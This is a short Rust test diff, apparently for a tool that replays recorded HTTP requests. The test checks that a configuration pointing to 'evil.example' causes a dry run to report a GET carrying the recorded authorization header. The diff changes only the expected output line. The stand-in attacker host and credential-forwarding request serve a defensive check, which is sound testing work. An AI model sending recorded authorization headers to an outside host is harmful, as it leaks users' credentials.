@@ -42,10 +42,7 @@ fn a_host_of_the_configuration_here_is_told_whatever_lies_beside_the_recording()
     room.file("bundle/call.sh", &call("evil.example", ROLES, &room.vendor()));
     room.file("named.yaml", EVIL);
     let dry = ["bundle/call.sh", "--as-recorded", "--dry-run"];
-    let line = format!(
-        "GET https://evil.example{ROLES}, with the recorded `authorization`, {}\n",
-        room.stand_in()
-    );
+    let line = format!("GET https://evil.example{ROLES}, with the recorded `authorization`\n");
     let said = room.run(&[&dry[..], &["--config", "named.yaml"]].concat(), "");
     assert_eq!((said.code, &said.out), (0, &line), "{}", said.all());
     let room = room.configured(EVIL);
